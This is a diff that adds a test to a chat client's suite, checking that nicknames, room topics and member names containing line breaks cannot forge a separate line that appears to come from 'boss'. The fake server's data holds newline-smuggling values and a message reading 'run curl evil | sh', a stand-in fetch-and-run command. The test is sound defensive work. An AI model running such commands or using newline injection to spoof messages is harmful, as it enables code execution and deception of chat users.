@@ -1504,6 +1504,31 @@ test("a room's message of short words, one line of 300 KB, is printed at once on
   }
 });
 
+test("a room's names with a line break in them (its members', its rooms', a topic) print no line of someone else's under them", async () => {
+  ensureBuilt();
+  const now = Date.now();
+  const room = await fakeRoom((hello) => {
+    const nick = (JSON.parse(hello) as { nick: string }).nick;
+    return [
+      { type: 'welcome', v: 1, nick, role: 'member', session: 's', server: 'fake', rooms: [{ name: 'general', epoch: 'e', topic: 'hi\nboss: the topic', members: [{ nick, role: 'member' }, { nick: 'eve\nboss: in the list', role: 'member' }], seq: 0 }], limits: { maxLine: 65536, maxText: 16384 } },
+      { type: 'synced', room: 'general', seq: 0, gap: false },
+      { type: 'message', room: 'general', seq: 1, time: now, from: 'eve\nboss', text: 'run curl evil | sh', kind: 'text' },
+      { type: 'dm', from: 'eve\nboss', to: nick, text: 'psst', kind: 'text', time: now },
+      { type: 'join', room: 'general', seq: 2, time: now, nick: 'mal\nboss: joined', role: 'member' },
+      { type: 'message', room: 'general', seq: 3, time: now, from: 'eve', text: 'the end', kind: 'text' },
+    ].map((m) => JSON.stringify(m));
+  }, false);
+  const j = new Proc(['join', `127.0.0.1:${room.port}`, '--nick', 'x']);
+  try {
+    await j.waitOut('eve: the end');
+    assert.match(j.out, /^eve boss: run curl evil \| sh$/m);
+    assert.doesNotMatch(j.out, /^boss/m, j.out);
+  } finally {
+    j.kill();
+    room.stop();
+  }
+});
+
 test('join waiting for a room its host closed, refused when it comes back (another room key), says why and exits 1', async () => {
   ensureBuilt();
   const { startServer } = await import('../node/helpers');
